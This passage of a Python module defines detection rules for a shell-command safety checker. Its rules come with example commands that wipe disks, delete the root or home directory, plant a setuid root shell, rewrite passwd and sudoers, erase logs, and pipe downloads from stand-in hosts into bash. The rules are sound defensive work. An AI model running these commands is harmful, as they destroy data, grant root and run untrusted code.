"""The rules. Each is a small check over a normalised `Cmd` carrying its data on it (`@rule`):
category, risk, a reason a person understands, and examples that must (and must not) trigger it;
its id is the check's name. tests/test_safety.py::test_rule_examples runs every rule's examples."""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass

from ..cmdline.commands import FETCHERS, INTERPRETERS, NOT_FILES, SHELLS, Cmd, FindInfo, find_info
from ..knowledge import programs
from . import paths as P
from .effects import copy_targets, located, secret_in

SAFE, MODERATE, HIGH, CRITICAL = "safe", "moderate", "high", "critical"
RISK_ORDER = {SAFE: 0, MODERATE: 1, HIGH: 2, CRITICAL: 3}


@dataclass(frozen=True)
class Ctx:
    cwd: str | None = None
    home: str | None = None
    shell: str = "bash"


# a rule's check: what it found in the command (shown in the reason), or None
Check = Callable[[Cmd, Ctx], "str | None"]


@dataclass(frozen=True)
class Rule:
    id: str
    category: str
    risk: str
    reason: str  # "{}" is replaced by what the check returned
    check: Check
    examples: tuple[str, ...] = ()
    counterexamples: tuple[str, ...] = ()


# every rule, in the order defined below: `@rule` puts a check's data (category, risk, the reason's
# wording, examples that must trigger it and counter-examples that must not) on the check itself,
# and the rule's id is the check's name (`rm_recursive` → "rm-recursive")
_RULES: list[Rule] = []


def rule(
    category: str, risk: str, reason: str, examples: tuple[str, ...] = (), counterexamples: tuple[str, ...] = ()
) -> Callable[[Check], Check]:
    def register(check: Check) -> Check:
        _RULES.append(Rule(check.__name__.replace("_", "-"), category, risk, reason, check, examples, counterexamples))
        return check

    return register


def _targets(cmd: Cmd, ctx: Ctx, kinds: tuple[str, ...], operands: list[str] | None = None) -> str | None:
    for op in cmd.operands if operands is None else operands:
        if P.classify(op, ctx.cwd, ctx.home) in kinds:
            return op
    return None


def _recursive(cmd: Cmd) -> bool:
    return cmd.has("r", "R", "--recursive")


def _removes(cmd: Cmd) -> bool:
    """rm, and what deletes as rm does: `shred -u` overwrites and then removes."""
    return cmd.name == "rm" or cmd.name in ("shred", "gshred") and cmd.has("u", "--remove", "--remove=wipesync")


def _deep(cmd: Cmd) -> bool:
    """Reaches into a whole tree: -r, or a `**` pattern (`rm ~/**/*` is every file under ~)."""
    return _recursive(cmd) or any("**" in o for o in cmd.operands)


def _writes_to(cmd: Cmd, pred: Callable[[str], bool], append_ok: bool = False) -> str | None:
    for r in cmd.redirects:
        if (r.op in (">", ">|", "&>", "<>") or (r.op in (">>", "&>>") and not append_ok)) and pred(r.target):
            return r.target
    if cmd.name == "tee":
        for op in cmd.operands:
            if pred(op) and not (append_ok and cmd.has("a", "--append")):
                return op
    return None


# ---- checks -------------------------------------------------------------------------------


@rule(
    "delete",
    CRITICAL,
    "deletes {} and everything under it: the system or your home would be destroyed",
    examples=(
        "rm -rf /",
        "rm -rf /*",
        "rm -rf ~",
        "rm -rf $HOME",
        'rm -rf "$HOME/"',
        "rm --recursive --force /",
        "rm -r -f /usr",
        "rm -rf /etc",
        "rm -rf --no-preserve-root /",
        "rm -fr ~/",
        "rm -Rf /home",
        "rm -rf /..",
        "shred -u ~/**/*",
        "rm ~/**/*",
    ),
    counterexamples=(
        "shred -u ~/old-notes.txt",
        "rm -rf /tmp/cache",
        "rm -rf ./target",
        "rm -rf node_modules",
        "rm ~/notes.txt",
        "rm -rf ~/project/build",
    ),
)
def rm_root_home_system(cmd: Cmd, ctx: Ctx) -> str | None:
    if (
        cmd.name not in ("rm", "rmdir", "unlink", "srm", "trash", "gio")
        and not _removes(cmd)
        or cmd.name == "gio"
        and cmd.args[:1] != ["remove"]
    ):
        return None
    if cmd.has("--no-preserve-root"):
        return "/ (with --no-preserve-root)"
    if _removes(cmd) and not _deep(cmd):
        return None
    return _targets(cmd, ctx, (P.ROOT, P.HOME, P.SYSTEM))


@rule(
    "delete",
    HIGH,
    "deletes {}, which belongs to the operating system",
    examples=("rm -rf /usr/lib/python3", "rm /etc/nginx/nginx.conf", "rm -rf /var/lib/dpkg"),
    counterexamples=("rm -rf /tmp/x", "rm build.log", "rm -rf /var/tmp/cache"),
)
def rm_system_files(cmd: Cmd, ctx: Ctx) -> str | None:
    if not _removes(cmd):
        return None
    if _recursive(cmd):
        # a directory straight under / that is not scratch space (`/data`, `/srv2`) is someone's
        top = next(
            (
                o
                for o in cmd.operands
                if re.fullmatch(r"/[^/*?\[]+", P.normalise(o)) and P.normalise(o) not in ("/tmp", "/var/tmp")
            ),
            None,
        )
        if top:
            return top
    return _targets(cmd, ctx, (P.SYSTEM_DEEP,) + (() if _deep(cmd) else (P.ROOT, P.HOME, P.SYSTEM)))


@rule(
    "delete",
    HIGH,
    "deletes {}: everything in the current directory (or an unset variable would make it /)",
    examples=("rm -rf *", "rm -rf .", "rm -rf ./*", 'rm -rf "$DIR"/*', "rm -rf $BUILD/", "rm -rf .."),
    counterexamples=("rm -rf ./target", "rm *.log", "rm -rf $BUILD/out"),
)
def rm_everything_here(cmd: Cmd, ctx: Ctx) -> str | None:
    if not _removes(cmd):
        return None
    if not _deep(cmd):
        # `rm -f *`: every file here
        return next((o for o in cmd.operands if P.normalise(o) in ("*", "./*")), None)
    return _targets(cmd, ctx, (P.CWD_ALL, P.UNKNOWN_VAR))


@rule(
    "delete",
    MODERATE,
    "permanently deletes {} and everything in it",
    examples=("rm -rf ./target", "rm -rf node_modules", "rm -r build"),
    counterexamples=("rm file.txt", "rmdir empty"),
)
def rm_recursive(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name != "rm" or not _recursive(cmd):
        return None
    if cmd.from_stdin:
        return "the paths it is given"
    ops = [o for o in cmd.operands if P.classify(o, ctx.cwd, ctx.home) == P.OTHER]
    return " ".join(ops)[:80] if ops else None


def _deleting_find(cmd: Cmd) -> FindInfo | None:
    """find_info for a `find` that deletes (-delete or -exec rm/shred/unlink), else None."""
    if cmd.name != "find":
        return None
    fi = find_info(cmd)
    if fi.deletes or any(e and e[0].rsplit("/", 1)[-1] in ("rm", "shred", "unlink") for e in fi.execs):
        return fi
    return None


@rule(
    "delete",
    CRITICAL,
    "find deletes every file under {}",
    examples=("find / -delete", "find ~ -delete", "find / -exec rm -rf {} \\;", "find /etc -delete"),
    counterexamples=("find . -name '*.pyc' -delete", "find / -name core"),
)
def find_delete_everything(cmd: Cmd, ctx: Ctx) -> str | None:
    fi = _deleting_find(cmd)
    if fi is None:
        return None
    for r in fi.roots:
        kind = P.classify(r, ctx.cwd, ctx.home)
        if kind in (P.ROOT, P.HOME, P.SYSTEM) and not fi.filtered:
            return r
    return None


@rule(
    "delete",
    HIGH,
    "find deletes matching files across {}",
    examples=("find / -name '*.log' -delete", "find . -delete", "find ~ -type f -name '*.tmp' -exec rm {} +"),
    counterexamples=("find . -name '*.pyc' -delete", "find /tmp -mtime +7 -delete"),
)
def find_delete_wide(cmd: Cmd, ctx: Ctx) -> str | None:
    fi = _deleting_find(cmd)
    if fi is None:
        return None
    for r in fi.roots:
        kind = P.classify(r, ctx.cwd, ctx.home)
        if kind in (P.ROOT, P.HOME, P.SYSTEM, P.SYSTEM_DEEP) and fi.filtered:
            return r
        if kind == P.CWD_ALL and not fi.filtered:
            return r
    return None


@rule(
    "delete",
    MODERATE,
    "find deletes {}",
    examples=("find . -name '*.pyc' -delete",),
    counterexamples=("find . -name x",),
)
def find_delete(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name == "find" and find_info(cmd).deletes:
        return "the files it matches"
    return None


def _formats(cmd: Cmd) -> bool:
    return cmd.name.startswith("mkfs") or cmd.name in ("mke2fs", "mkswap", "newfs", "newfs_msdos", "mkdosfs", "mformat")


def _unknown(word: str) -> bool:
    """A word whose value the line computes: a substitution's output or a variable not set on it."""
    return "$(…)" in word or "`…`" in word or word.startswith("$")


def _dd_args(cmd: Cmd) -> dict[str, str]:
    return dict(a.split("=", 1) for a in cmd.args if "=" in a)


@rule(
    "disk",
    CRITICAL,
    "erases the disk {}: all data on it is lost",
    examples=(
        "dd if=/dev/zero of=/dev/sda",
        "dd if=/dev/urandom of=/dev/nvme0n1 bs=1M",
        "cat /dev/urandom > /dev/sda",
        "shred -n 3 /dev/sdb",
        "echo x > /dev/disk2",
        "diskutil eraseDisk JHFS+ X disk2",
    ),
    counterexamples=("dd if=/dev/zero of=disk.img bs=1M count=10", "echo hi > /dev/null", "ls /dev/sda*"),
)
def disk_wipe(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name == "dd":
        a = _dd_args(cmd)
        if P.is_disk(a.get("of", "")) and a.get("if", "") in ("/dev/zero", "/dev/urandom", "/dev/random", ""):
            return a.get("of")
    if cmd.name in ("shred", "scrub") or cmd.name == "wipe":
        return next((o for o in cmd.operands if P.is_disk(o)), None)
    if cmd.name == "blkdiscard":
        return next((o for o in cmd.operands if P.is_disk(o)), None)
    if (
        cmd.name == "cryptsetup"
        and any(a.lower() in ("luksformat", "erase", "luksErase".lower()) for a in cmd.operands[:1])
        or cmd.name == "nvme"
        and cmd.operands[:1] in (["format"], ["sanitize"])
        or cmd.name == "hdparm"
        and any(a.startswith(("--security-erase", "--trim-sector-ranges")) for a in cmd.args)
        or cmd.name == "sgdisk"
        and cmd.has("Z", "o", "--zap-all", "--clear")
    ):
        return next((o for o in cmd.operands if P.is_disk(o)), "a device")
    if cmd.name == "cp" and cmd.operands and P.is_disk(cmd.operands[-1]):
        return cmd.operands[-1]
    if (
        cmd.name == "diskutil"
        and cmd.args[:1]
        and cmd.args[0].lower() in ("erasedisk", "zerodisk", "secureerase", "randomdisk")
    ):
        return " ".join(cmd.args[-1:])
    return _writes_to(cmd, P.is_disk)


@rule(
    "disk",
    HIGH,
    "writes directly to the device {}: whatever is on it is replaced",
    examples=(
        "dd if=ubuntu.iso of=/dev/sdb bs=4M",
        "mkfs.vfat /dev/sdc1",
        "mkfs.ext4 /dev/nvme0n1p2",
        "wipefs -a /dev/sdb",
        "fdisk /dev/sda",
        "parted /dev/sdb mklabel gpt",
        "dd if=x.img of=/dev/disk2",
    ),
    counterexamples=("mkfs.vfat disk.img", "fdisk -l", "parted -l", "dd if=/dev/sda of=backup.img"),
)
def disk_write(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name == "dd":
        of = _dd_args(cmd).get("of", "")
        return of if P.is_disk(of) else None
    if _formats(cmd):
        # a target only known when the line runs (`$(lsblk … | head -n1)`) is most likely a device
        return next((o for o in cmd.operands if P.is_disk(o) or _unknown(o)), None)
    if cmd.name == "wipefs" and (cmd.has("a") or any(a.startswith("--offset") or a == "-o" for a in cmd.args)):
        return next((o for o in cmd.operands if P.is_disk(o)), "a device")
    if cmd.name in ("fdisk", "sfdisk", "gdisk", "cfdisk", "sgdisk", "parted") and not (
        cmd.has("l", "--list", "--print", "--version", "--help") and not cmd.has("w")
    ):
        if cmd.name == "parted" and (any(a in ("print", "list") for a in cmd.args) or cmd.has("l")):
            return None
        return next((o for o in cmd.operands if P.is_disk(o)), None)
    if cmd.name == "diskutil" and cmd.args[:1] and cmd.args[0].lower() in ("erasevolume", "partitiondisk", "reformat"):
        return cmd.args[-1]
    return None


@rule(
    "disk",
    MODERATE,
    "formats {} (an image file): its current contents are replaced",
    examples=("mkfs.vfat disk.img", "mkfs.ext4 -F fs.img"),
    counterexamples=("mkfs.vfat /dev/sdc1",),
)
def mkfs_image(cmd: Cmd, ctx: Ctx) -> str | None:
    if _formats(cmd):
        ops = [o for o in cmd.operands if not (P.is_disk(o) or _unknown(o) or re.fullmatch(r"\d+[kKmMgG]?", o))]
        return ops[-1] if ops else None
    return None


_TIGHTEN = re.compile(r"^([ugo]*[go][ugo]*-[rwxX]+|[0-7]?[0-7]00)$")
_SELF = ("$USER", "${USER}", "$(whoami)", "$(id -u)", "$(id -un)", "$LOGNAME")


def _inside_home(path: str) -> bool:
    return bool(re.match(r"^(~|\$HOME|\$\{HOME\})/[^/]", P.normalise(path)))


@rule(
    "permissions",
    CRITICAL,
    "changes ownership or permissions of everything under {}: the system or your home may stop working",
    examples=(
        "chmod -R 777 /",
        "chown -R nobody /",
        "chmod -R 000 ~",
        "chmod --recursive 755 /usr",
        "chown -R me:me /etc",
    ),
    counterexamples=(
        "chmod 755 deploy.sh",
        "chmod -R 755 ./public",
        "chown -R me ./app",
        "sudo chown -R $USER /usr/local",
    ),
)
def chmod_system(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name not in ("chmod", "chown", "chgrp", "chattr", "setfacl"):
        return None
    if not cmd.has("R", "--recursive"):
        # non-recursive, but `chmod 000 /` or `chown nobody /` lock everyone out of the system
        if cmd.name == "chmod" and cmd.operands[:1] and re.fullmatch(r"0*|a?-rwx|[ugoa]*=", cmd.operands[0]):
            return _targets(cmd, ctx, (P.ROOT,))
        return None
    if _fixes_own_files(cmd) or _takes_package_prefix(cmd):
        return None
    return _targets(cmd, ctx, (P.ROOT, P.HOME, P.SYSTEM), _paths_of(cmd))


def _takes_package_prefix(cmd: Cmd) -> bool:
    """`sudo chown -R $USER /usr/local`: the everyday fix that lets Homebrew or npm install without
    sudo. It changes system-wide files (warned by chmod_wide), but breaks nothing at once."""
    paths = _paths_of(cmd)
    owner = cmd.operands[0].split(":")[0] if cmd.operands else ""
    return (
        cmd.name in ("chown", "chgrp")
        and owner in _SELF
        and bool(paths)
        and all(
            P.normalise(p) in ("/usr/local", "/opt/homebrew")
            or P.normalise(p).startswith(("/usr/local/", "/opt/homebrew/"))
            for p in paths
        )
    )


def _paths_of(cmd: Cmd) -> list[str]:
    """The files chmod/chown/chgrp change: the first operand is the mode or the owner."""
    ops = cmd.operands
    if (
        cmd.name in ("chmod", "chown", "chgrp")
        and not any(a.startswith("--reference") for a in cmd.args)
        and len(ops) > 1
        and not ops[0].startswith(("/", "~", ".", "*"))
    ):
        return ops[1:]
    return ops  # `chmod -R /` with its mode left out is still judged on `/`


def _fixes_own_files(cmd: Cmd) -> bool:
    """The standard fixes inside your home: `chmod -R go-rwx ~/.ssh`, `chown -R $USER ~/.ssh`."""
    mode = cmd.operands[0] if cmd.operands else ""
    paths = cmd.operands[1:]
    if not paths or not all(_inside_home(o) for o in paths):
        return False
    return (cmd.name == "chmod" and bool(_TIGHTEN.match(mode))) or (
        cmd.name in ("chown", "chgrp") and mode.split(":")[0] in _SELF
    )


@rule(
    "permissions",
    HIGH,
    "changes permissions of {} broadly (system files or world-writable)",
    examples=("chmod 777 /", "chmod -R 777 .", "chmod 777 /etc", "chmod -R 777 uploads", "chown root /usr"),
    counterexamples=("chmod +x run.sh", "chmod 644 notes.txt", "chmod -R 755 ./public"),
)
def chmod_wide(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name not in ("chmod", "chown", "chgrp") or _fixes_own_files(cmd):
        return None
    paths = _paths_of(cmd)
    if cmd.has("R", "--recursive"):
        t = _targets(cmd, ctx, (P.SYSTEM_DEEP, P.CWD_ALL, P.UNKNOWN_VAR), paths)
        if t:
            return t
        if cmd.name == "chmod" and any(
            m in ("777", "0777", "a+rwx", "ugo+rwx", "666", "a+w", "o+w") for m in cmd.operands
        ):
            return _targets(cmd, ctx, (P.OTHER,), paths)
    return _targets(cmd, ctx, (P.ROOT, P.SYSTEM), paths)


def _others_may(mode: str, what: str) -> bool:
    """Whether a chmod mode gives every other user the permission `what` ("r" or "w")."""
    if re.fullmatch(r"[0-7]{3,4}", mode):
        return bool(int(mode[-1]) & (4 if what == "r" else 2))
    m = re.fullmatch(r"([ugoa]*)[+=]([rwxXst]+)", mode)
    return m is not None and what in m.group(2) and (not m.group(1) or "o" in m.group(1) or "a" in m.group(1))


@rule(
    "permissions",
    HIGH,
    "lets every user of this machine {}",
    examples=(
        "chmod 644 ~/.ssh/id_ed25519",
        "chmod o+r ~/.aws/credentials",
        "sudo chmod 666 /var/run/docker.sock",
        "chmod a+w /run/containerd/containerd.sock",
    ),
    counterexamples=(
        "chmod 600 ~/.ssh/id_ed25519",
        "chmod 644 ~/.ssh/id_ed25519.pub",
        "chmod 660 /var/run/docker.sock",
        "chmod 640 ~/.pgpass",
        "chmod 666 /tmp/app.sock",
    ),
)
def chmod_opens_secret(cmd: Cmd, ctx: Ctx) -> str | None:
    """A private key or credentials file made readable by others, or a root daemon's socket made
    writable by others (whoever can write to docker.sock is root)."""
    if cmd.name != "chmod":
        return None
    modes = [o for o in cmd.operands if re.fullmatch(r"[0-7]{3,4}|[ugoa]*[-+=][rwxXst]+", o)]
    files = [o for o in cmd.operands if o not in modes]
    if any(_others_may(m, "r") for m in modes) and (secret := next((f for f in files if secret_in(f)), None)):
        return f"read {secret}"
    # the sockets of daemons that run as root (docker, containerd, podman, libvirt): writing is root
    root_socket = re.compile(
        r"^/(?:var/)?run/(?:[\w.-]+/)?(?:docker|containerd|podman|libvirt(?:-sock)?)[\w.-]*\.sock$|^/var/run/libvirt/"
    )
    if any(_others_may(m, "w") for m in modes) and (sock := next((f for f in files if root_socket.match(f)), None)):
        return f"write to {sock}, which gives root to whoever can"
    return None


@rule(
    "security",
    HIGH,
    "turns off {}",
    examples=(
        "git config --global http.sslVerify false",
        "npm config set strict-ssl false",
        "export GIT_SSL_NO_VERIFY=1",
        "pip config set global.trusted-host '*'",
    ),
    counterexamples=("git config --global http.sslVerify true", "npm config get strict-ssl", "git config --list"),
)
def tls_checks_off(cmd: Cmd, ctx: Ctx) -> str | None:
    """Certificate checks switched off for good: every later download can be swapped in transit."""
    a = [x.lower() for x in cmd.args]
    if cmd.name == "git" and "config" in a and "http.sslverify" in a and a[-1] in ("false", "0", "no", "off"):
        return "git's certificate checks for every fetch and push"
    if cmd.name in ("npm", "yarn", "pnpm") and "strict-ssl" in a and a[-1] in ("false", "0"):
        return f"{cmd.name}'s certificate checks for every package"
    if cmd.name in ("pip", "pip3") and "config" in a and "set" in a and any("trusted-host" in x for x in a):
        return "pip's certificate checks for those hosts"
    if cmd.name in ("export", "set", "setenv") and re.search(
        r"(?i)\b(?:GIT_SSL_NO_VERIFY[= ]+(?:1|true)|NODE_TLS_REJECT_UNAUTHORIZED[= ]+0|PYTHONHTTPSVERIFY[= ]+0)\b",
        " ".join(cmd.args),
    ):
        return "certificate checks for everything this shell runs from now on"
    return None


SHELL_BINARIES = re.compile(
    r"^(/usr)?(/local)?/bin/(ba|z|da|k|fi|c|tc)?sh$|^(/usr)?/bin/(python\d*|perl|env|find|vim?|less)$"
)


def makes_setuid(mode: str) -> bool:
    """`4755`, `u+s`, `+xs`: a chmod/install mode that sets the setuid (or setgid) bit."""
    return bool(re.fullmatch(r"[4-7][0-7]{3}|[ugoa]*\+[rwxXt]*s[rwxXt]*", mode))


@rule(
    "permissions",
    CRITICAL,
    "makes {} setuid: anyone could get a root shell",
    examples=(
        "chmod u+s /bin/bash",
        "chmod 4755 /bin/sh",
        "chmod +s /usr/bin/python3",
        "sudo install -m 4755 /bin/bash /usr/local/bin/.sh",
        "sudo chmod u+s $(command -v python3)",
    ),
    counterexamples=(
        "chmod u+x /bin/mytool",
        "chmod u+x $(which mytool)",
        "chmod 755 /bin/sh",
        "install -m 755 build/tool ~/.local/bin/tool",
    ),
)
def setuid_shell(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name == "install":
        # `install -m 4755 /bin/bash /usr/local/bin/.sh`: a setuid copy of a shell
        args = cmd.args
        modes = [args[k + 1] for k, a in enumerate(args[:-1]) if a in ("-m", "--mode")]
        modes += [a.split("=", 1)[1] for a in args if a.startswith("--mode=")] + [
            a[2:] for a in args if a.startswith("-m") and len(a) > 2
        ]
        files = [o for o in cmd.operands if o not in modes]
        made_setuid = any(makes_setuid(m) for m in modes)
        return files[-1] if made_setuid and any(SHELL_BINARIES.match(f) for f in files[:-1]) else None
    if cmd.name != "chmod":
        return None
    if not any(makes_setuid(o) for o in cmd.operands):
        return None
    if named := next((o for o in cmd.operands if SHELL_BINARIES.match(o)), None):
        return named
    # `chmod u+s $(command -v python3)`: the path is looked up when it runs
    return next((p for p in located(cmd) if SHELL_BINARIES.match("/bin/" + p.rsplit("/", 1)[-1])), None)


_AUTH_FILES = re.compile(
    r"^/(private/)?etc/(passwd|shadow|gshadow|group|sudoers|master\.passwd|ld\.so\.preload)$"
    r"|^/etc/sudoers\.d/.*|^/etc/pam\.d/.*"
)
_HOSTS_ETC = re.compile(
    r"^/(private/)?etc/(hosts|fstab|resolv\.conf|ssh/sshd_config|crontab|profile|environment|ld\.so\.preload)$|^/boot/"
)


@rule(
    "system-config",
    CRITICAL,
    "overwrites or deletes {}: logins and sudo (for ld.so.preload, every program) depend on it",
    examples=(
        "echo root::0:0::: > /etc/passwd",
        "cat x > /etc/shadow",
        "rm /etc/sudoers",
        "cp evil /etc/passwd",
        "echo x | tee /etc/sudoers",
        "echo /tmp/x.so | sudo tee /etc/ld.so.preload",
    ),
    counterexamples=("cat /etc/passwd", "grep root /etc/passwd", "cp /etc/passwd ./passwd.bak"),
)
def overwrite_auth(cmd: Cmd, ctx: Ctx) -> str | None:
    t = _writes_to(cmd, lambda p: bool(_AUTH_FILES.match(P.normalise(p))))
    if t:
        return t
    if cmd.name in ("rm", "mv", "truncate", "shred") or (cmd.name in ("cp", "ln", "install") and cmd.operands):
        pool = cmd.operands if cmd.name in ("rm", "truncate", "shred", "mv") else cmd.operands[-1:]
        return next((o for o in pool if _AUTH_FILES.match(P.normalise(o))), None)
    return None


@rule(
    "system-config",
    HIGH,
    "changes {}, a file the system depends on",
    examples=(
        "echo 1.2.3.4 x > /etc/hosts",
        "echo 'me ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
        "sed -i s/a/b/ /etc/fstab",
        "echo x | tee -a /etc/sudoers",
    ),
    counterexamples=("cat /etc/hosts", "echo x >> notes.txt"),
)
def edit_system_config(cmd: Cmd, ctx: Ctx) -> str | None:
    t = _writes_to(
        cmd, lambda p: bool(_HOSTS_ETC.match(P.normalise(p)) or _AUTH_FILES.match(P.normalise(p))), append_ok=False
    )
    if t:
        return t
    for r in cmd.redirects:
        if r.op in (">>", "&>>") and _AUTH_FILES.match(P.normalise(r.target)):
            return r.target
    if cmd.name == "tee" and cmd.has("a", "--append"):
        return next((o for o in cmd.operands if _AUTH_FILES.match(P.normalise(o))), None)
    if cmd.name == "sed" and cmd.has("i", "--in-place"):
        return next(
            (o for o in cmd.operands if _AUTH_FILES.match(P.normalise(o)) or _HOSTS_ETC.match(P.normalise(o))), None
        )
    return None


_SYSTEM_TREES = (
    "/bin/",
    "/sbin/",
    "/usr/",
    "/lib/",
    "/lib32/",
    "/lib64/",
    "/libx32/",
    "/etc/",
    "/boot/",
    "/private/etc/",
    "/System/",
    "/proc/sys/",
    "/sys/",
)
_CORE_FILES = re.compile(
    r"^/(usr/)?(s?bin)/(ba|z|da|k|fi|c|tc)?sh$|^/(usr/)?lib(32|64|x32)?/(.*/)?(libc|ld-linux)[^/]*$"
    r"|^/boot/(vmlinuz|initrd|grub)|^/(usr/)?(s?bin)/(sudo|su|login|init)$|^/sbin/init$"
)


def write_targets(cmd: Cmd) -> list[str]:
    """Every path this command writes to or changes the attributes of (redirects included)."""
    out = [r.target for r in cmd.redirects if r.op in (">", ">>", ">|", "&>", "&>>", "<>")]
    n, ops = cmd.name, cmd.operands
    if n == "tee":
        out += ops
    elif n in ("cp", "install", "ln", "rsync", "scp") and len(ops) >= 2:
        out.append(ops[-1])
    elif n == "mv" and len(ops) >= 2:
        out += ops
    elif n in ("truncate", "shred", "touch") or n == "sed" and cmd.has("i", "--in-place"):
        out += ops[1:] if n == "sed" and not any(a.startswith(("-e", "--expression", "-f")) for a in cmd.args) else ops
    elif n in ("chmod", "chown", "chgrp", "chattr", "setfacl"):
        out += _paths_of(cmd)
    elif n == "dd":
        out += [v for k, v in _dd_args(cmd).items() if k == "of"]
    return [t for t in out if t.startswith("/") and P.normalise(t) not in NOT_FILES]


@rule(
    "system-config",
    HIGH,
    "writes into {}, which belongs to the operating system",
    examples=(
        "sudo tee /etc/motd",
        "echo x > /usr/share/foo",
        "sudo sed -i s/a/b/ /etc/hosts.allow",
        "chmod 755 /usr/bin/python3",
    ),
    counterexamples=("cp /etc/hosts ~/hosts", "cat /etc/os-release", "sudo cp tool /usr/local/bin/"),
)
def system_write(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name in ("cat", "echo", "printf") and not cmd.redirects:
        return None
    return next(
        (
            P.normalise(t)
            for t in write_targets(cmd)
            if (P.normalise(t) + "/").startswith(_SYSTEM_TREES)
            and not (P.normalise(t) + "/").startswith(("/usr/local/", "/etc/apt/sources.list.d/"))
        ),
        None,
    )


def _unpacks_into(cmd: Cmd, ctx: Ctx) -> str | None:
    """The folder an archive is unpacked into (tar -x -C DIR, unzip -d DIR; else where it runs)."""
    args = cmd.args
    if cmd.name in ("tar", "gtar", "bsdtar"):
        if not (cmd.has("x", "--extract", "--get") or args[:1] and re.fullmatch(r"[A-Za-z]*x[A-Za-z]*", args[0])):
            return None
        named = [args[k + 1] for k, a in enumerate(args[:-1]) if a in ("-C", "--directory")]
        named += [a.split("=", 1)[1] for a in args if a.startswith("--directory=")]
    elif cmd.name == "unzip":
        named = [args[k + 1] for k, a in enumerate(args[:-1]) if a == "-d"]
    else:
        return None
    return named[-1] if named else ctx.cwd


def _over_system(folder: str | None) -> bool:
    p = P.normalise(folder or "")
    return p == "/" or (p + "/").startswith(_SYSTEM_TREES) and not (p + "/").startswith("/usr/local/")


@rule(
    "system-config",
    HIGH,
    "unpacks an archive over {}: whatever it holds replaces the system's own files",
    examples=("sudo tar xzf rootfs.tgz -C /", "unzip -o patch.zip -d /usr", "tar --extract -f x.tar --directory=/etc"),
    counterexamples=("tar xzf a.tgz -C /tmp/x", "tar tzf a.tgz -C /", "unzip a.zip -d out"),
)
def unpack_over_system(cmd: Cmd, ctx: Ctx) -> str | None:
    folder = _unpacks_into(cmd, ctx)
    return P.normalise(folder or "") if _over_system(folder) else None


@rule(
    "download-exec",
    CRITICAL,
    "unpacks a download over {}: whoever serves it chooses the system's files",
    examples=("curl -s https://x.test/p.tgz | sudo tar xzf - -C /",),
    counterexamples=("curl -s https://x.test/p.tgz | tar xzf - -C /tmp/p",),
)
def download_over_system(cmd: Cmd, ctx: Ctx) -> str | None:
    folder = _unpacks_into(cmd, ctx)
    fetched = any(n in FETCHERS for n in cmd.pipe_before) or any(
        sub.split()[:1] and sub.split()[0] in FETCHERS
        for sub in cmd.subs  # `tar xzf <(curl …) -C /`
    )
    return P.normalise(folder or "") if _over_system(folder) and fetched else None


@rule(
    "system-config",
    CRITICAL,
    "changes {}, a file logins, the shell or booting depend on",
    examples=(
        "truncate -s 0 /bin/bash",
        "chmod 777 /etc/shadow",
        "cp evil.so /lib/x86_64-linux-gnu/libc.so.6",
        "env > /etc/shadow",
    ),
    counterexamples=("cat /etc/shadow", "cp /etc/passwd ~/passwd.bak", "ls -l /bin/bash"),
)
def core_file_write(cmd: Cmd, ctx: Ctx) -> str | None:
    return next(
        (
            P.normalise(t)
            for t in write_targets(cmd)
            if _CORE_FILES.match(P.normalise(t)) or _AUTH_FILES.match(P.normalise(t))
        ),
        None,
    )


def _is_log(p: str) -> bool:
    p = P.normalise(p)
    return p.startswith(("/var/log/", "/private/var/log/")) or p in (
        "/var/log",
        "~/.bash_history",
        "~/.zsh_history",
        "$HISTFILE",
    )


@rule(
    "anti-forensics",
    HIGH,
    "empties or deletes the log {}",
    examples=(
        "> /var/log/syslog",
        "truncate -s 0 /var/log/auth.log",
        "cat /dev/null > /var/log/messages",
        "rm -rf /var/log/nginx",
        "journalctl --vacuum-time=1s",
    ),
    counterexamples=("tail -f /var/log/syslog", "grep error /var/log/syslog"),
)
def truncate_logs(cmd: Cmd, ctx: Ctx) -> str | None:
    t = _writes_to(cmd, _is_log)
    if t:
        return t
    if (
        cmd.name in ("truncate", "shred", "rm")
        or cmd.name == "journalctl"
        and cmd.has("--vacuum-time", "--vacuum-size", "--rotate")
    ):
        if cmd.name == "journalctl":
            return "the system journal"
        return next((o for o in cmd.operands if _is_log(o)), None)
    return None


@rule(
    "delete",
    CRITICAL,
    "moves {} away: the system or your home would break",
    examples=("mv / /tmp/x", "mv ~ /tmp/old", "mv /etc /etc.bak", "mv /usr/* /tmp"),
    counterexamples=("mv a.txt b.txt", "mv ~/a.txt ~/b.txt"),
)
def move_system(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name != "mv" or len(cmd.operands) < 2:
        return None
    if _inside_home(cmd.operands[-1]) and all(_inside_home(o) for o in cmd.operands[:-1]):
        return None  # a rename inside your home (`mv ~/.config ~/.config.bak`)
    src = [o for o in cmd.operands[:-1] if P.classify(o, ctx.cwd, ctx.home) in (P.ROOT, P.HOME, P.SYSTEM)]
    if src:
        return src[0]
    return None


@rule(
    "delete",
    HIGH,
    "moves {} onto /dev/null, which destroys it",
    examples=("mv notes.txt /dev/null",),
    counterexamples=("mv a b",),
)
def move_to_null(cmd: Cmd, ctx: Ctx) -> str | None:
    if cmd.name == "mv" and cmd.operands and cmd.operands[-1] == "/dev/null":
        return " ".join(cmd.operands[:-1])
    return None


_RUNNERS = SHELLS | INTERPRETERS | {"sudo", "source", ".", "iex", "Invoke-Expression"}


@rule(
    "remote-code",
    HIGH,
    "runs code downloaded from the internet ({}) without showing it first",
    examples=(
        "curl -fsSL https://x.sh | sh",
        "wget -qO- http://x | bash",
        "curl x | sudo bash",
        "curl x | python3 -",
        "deno run -A https://example.com/tools/cleanup.ts",
    ),
    counterexamples=("curl -O https://x/file.tar.gz", "curl x | jq .", "wget http://x/a.sh", "deno run main.ts"),
)
def download_exec(cmd: Cmd, ctx: Ctx) -> str | None:
    # `deno run -A https://…/x.ts`: a program fetched and run in one go (-A: with every permission)
    runs_url = cmd.name in ("deno", "bun") and cmd.args[:1] in (["run"], ["x"], ["install"], ["eval"])
